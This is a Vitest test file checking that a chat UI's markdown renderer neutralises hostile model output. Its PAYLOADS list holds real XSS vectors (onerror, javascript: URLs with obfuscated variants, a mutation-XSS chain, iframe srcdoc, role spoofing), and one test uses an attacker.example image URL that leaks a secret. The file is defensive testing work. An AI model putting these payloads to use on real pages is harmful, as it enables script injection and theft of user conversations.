import { afterEach, describe, expect, it } from "vitest";

import { MarkdownStream, renderMarkdown } from "../src/renderer";

const PAYLOADS = [
  `<img src=x onerror="window.__pwned=1">`,
  `<script>window.__pwned=1</script>`,
  `[click](javascript:window.__pwned=1)`,
  `[click](jav&#x09;ascript:window.__pwned=1)`,
  `[click](JaVaScRiPt:window.__pwned=1)`,
  `<a href="javascript:window.__pwned=1">x</a>`,
  `<svg onload="window.__pwned=1"><circle r=5></circle></svg>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>`,
  `<div style="position:fixed;inset:0" onclick="window.__pwned=1">overlay</div>`,
  `<form action="javascript:window.__pwned=1"><button>go</button></form>`,
  `<details open ontoggle="window.__pwned=1">x</details>`,
  `![img](x" onerror="window.__pwned=1)`,
  `<a href="data:text/html,<script>alert(1)</script>">data</a>`,
  `<div data-role="user" role="alert" class="kaito-message">spoof</div>`,
];

function assertInert(el: HTMLElement): void {
  expect(el.querySelectorAll("script, iframe, object, embed, form, style, svg, img, math").length).toBe(0);
  for (const node of Array.from(el.querySelectorAll("*"))) {
    for (const attr of Array.from(node.attributes)) {
      expect(attr.name.startsWith("on"), `${node.tagName} has ${attr.name}`).toBe(false);
      expect(["style", "role", "data-role", "srcdoc"]).not.toContain(attr.name);
      if (attr.name === "href") expect(attr.value).toMatch(/^(https?:|mailto:|#)/i);
      // Our own wrappers and copy buttons are the only elements allowed a kaito-* class.
      const ours = /^kaito-(md-frozen|md-live|md-block( kaito-md-far)?|copy-code)$/.test(node.getAttribute("class") ?? "");
      if (attr.name === "class" && !ours) expect(attr.value).not.toMatch(/kaito/);
    }
  }
  expect((window as any).__pwned).toBeUndefined();
}

describe("sanitizing model output", () => {
  afterEach(() => delete (window as any).__pwned);

  it.each(PAYLOADS)("neutralises %s", (payload) => {
    const el = document.createElement("div");
    document.body.append(el);
    renderMarkdown(el, `Before\n\n${payload}\n\nAfter`);
    assertInert(el);
    expect(el.textContent).toContain("Before");
    expect(el.textContent).toContain("After");
    el.querySelectorAll("a").forEach((a) => a.click());
    expect((window as any).__pwned).toBeUndefined();
  });

  it("stays inert when payloads arrive split across tokens", () => {
    const el = document.createElement("div");
    const stream = new MarkdownStream(el);
    const text = PAYLOADS.join("\n\n");
    for (let i = 0; i < text.length; i += 3) {
      stream.append(text.slice(i, i + 3));
      assertInert(el);
    }
    stream.finish();
    assertInert(el);
  });

  it("opens safe links in a new tab without an opener", () => {
    const el = document.createElement("div");
    renderMarkdown(el, "[Kaito](https://github.com/kaito-project/kaito)");
    const a = el.querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://github.com/kaito-project/kaito");
    expect(a.target).toBe("_blank");
    expect(a.rel).toContain("noopener");
  });

  it("never loads remote images (they could leak the conversation)", () => {
    const el = document.createElement("div");
    renderMarkdown(el, "![chart](https://attacker.example/leak?q=secret)");
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("a")?.textContent).toBe("chart");
  });
});
